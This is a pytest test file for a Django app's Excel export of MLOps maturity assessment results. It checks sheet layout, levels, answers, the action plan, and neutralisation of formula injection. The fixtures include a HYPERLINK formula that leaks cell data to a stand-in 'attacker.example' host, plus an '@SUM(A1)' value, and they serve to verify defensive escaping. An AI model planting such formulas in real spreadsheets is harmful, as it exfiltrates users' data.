"""The results workbook: opened with openpyxl, it has a sheet each for sections, components,
answers and the action plan, every header row frozen and filtered, text that a spreadsheet
would run as a formula neutralised, and the same access as results.json."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from assessment import action_exports, services
from assessment.models import Answer
from assessment.reports.workbook import results_workbook
from assessment.results import results_for
from tests import factories

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


@pytest.fixture
def second(org_a, bank, alice, bob):
    """The second of two submitted assessments (in the first, training data versions were
    Manual), with targets for two components, a comment that is a formula, and an action."""
    first = factories.submitted(org_a, bank, alice, title="MLOps maturity 2025")
    versions_then = Answer.objects.get(assessment=first, question__slug="training-data-versions")
    versions_then.choice = versions_then.question.choices.get(level=1)
    versions_then.save()
    assessment = factories.submitted(org_a, bank, alice)
    services.set_targets(
        assessment=assessment,
        levels={"data-versioning": 3, "monitoring": 2},
        ambition="",
        user=alice,
    )
    answer = Answer.objects.get(assessment=assessment, question__slug="data-lineage")
    answer.comment = FORMULA + "\x01"
    answer.answered_by = bob
    answer.save()
    factories.make_action(
        organisation=org_a, title="@SUM(A1)", owner=bob, due_date=date(2027, 3, 1)
    )
    return assessment


def workbook(assessment):
    return load_workbook(io.BytesIO(results_workbook(assessment)))


def records(sheet) -> list[dict]:
    """Each row after the header, by column heading."""
    header = [cell.value for cell in sheet[1]]
    return [
        dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


def test_it_has_four_sheets_each_with_a_bold_frozen_filtered_header_and_set_widths(second):
    book = workbook(second)

    assert book.sheetnames == ["Sections", "Components", "Answers", "Action plan"]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["A"].width > 20


def test_the_sections_sheet_gives_each_sections_level_score_previous_and_target(second):
    sections = records(workbook(second)["Sections"])

    assert [row["Section"] for row in sections] == [
        "Data management and pipeline",
        "Model lifecycle",
        "Pipeline automation grid",
    ]
    data = sections[0]
    assert (data["Level"], data["Level name"], data["Score"]) == (1, "Manual", 1.5)
    assert (data["Previous level"], data["Previous score"]) == (1, 1.25)
    assert (data["Target level"], data["Target level name"]) == (2, "Repeatable")
    assert data["Why this level"] == results_for(second).explanations["data-management"]


def test_the_components_sheet_gives_foundations_previous_levels_targets_and_reasons(second):
    components = {row["Component"]: row for row in records(workbook(second)["Components"])}
    versioning = components["Data versioning and lineage"]

    assert versioning["Section"] == "Data management and pipeline"
    assert (versioning["Foundation"], versioning["Score"], versioning["Level"]) == ("Yes", 1.5, 1)
    assert (versioning["Previous level"], versioning["Previous level name"]) == (1, "Manual")
    assert (versioning["Target level"], versioning["Target level name"]) == (3, "Reproducible")
    assert versioning["Why this level"] == results_for(second).explanations["data-versioning"]
    assert components["Monitoring and retraining"]["Target level"] == 2
    assert components["Data quality and validation"]["Target level"] is None


def test_every_answer_is_listed_with_its_status_statement_comment_and_who_answered(second):
    answers = records(workbook(second)["Answers"])
    lineage = answers[1]
    feature_store = answers[3]

    assert len(answers) == 10
    assert (
        lineage["Question"]
        == "Can you trace a production prediction back to the raw data behind it?"
    )
    assert (lineage["Status"], lineage["Level"], lineage["Level name"]) == ("Answered", 1, "Manual")
    assert lineage["Statement"] == "Only by asking the person who built the model."
    assert lineage["Answered by"] == "Bob"
    assert (feature_store["Status"], feature_store["Level"]) == ("Don't know", None)


def test_a_comment_a_spreadsheet_would_run_as_a_formula_stays_text(second):
    book = workbook(second)
    lineage = records(book["Answers"])[1]

    assert lineage["Comment"] == "'" + FORMULA  # and the control character is gone
    assert not any(
        cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row
    )


def test_the_action_plan_sheet_is_laid_out_as_the_action_plans_own_export(second):
    sheet = workbook(second)["Action plan"]
    (action,) = records(sheet)

    assert [cell.value for cell in sheet[1]] == action_exports.header()
    assert (action["Action"], action["Owner"], action["Status"]) == (
        "'@SUM(A1)",
        "Bob",
        "Not started",
    )
    assert action["Due date"].date() == date(2027, 3, 1)


def test_a_first_assessment_has_no_previous_levels(org_a, bank, alice):
    sections = records(workbook(factories.submitted(org_a, bank, alice))["Sections"])

    assert {(row["Previous level"], row["Previous score"]) for row in sections} == {(None, None)}
